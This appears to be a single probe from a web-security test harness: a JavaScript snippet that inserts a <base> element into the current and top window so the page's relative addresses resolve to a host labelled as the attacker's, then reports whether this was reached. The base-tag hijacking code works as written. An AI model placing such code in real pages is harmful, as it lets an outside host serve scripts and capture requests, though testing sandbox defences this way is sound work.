// Tries: move the page's base, so that its relative addresses lead to the attacker.
(() => {
  for (const view of [window, top]) {
    attempt(() => {
      const base = view.document.createElement("base");
      base.href = `${CDN}/reached/move-base/`;
      view.document.head.prepend(base);
    });
  }
  over("move-base");
})();
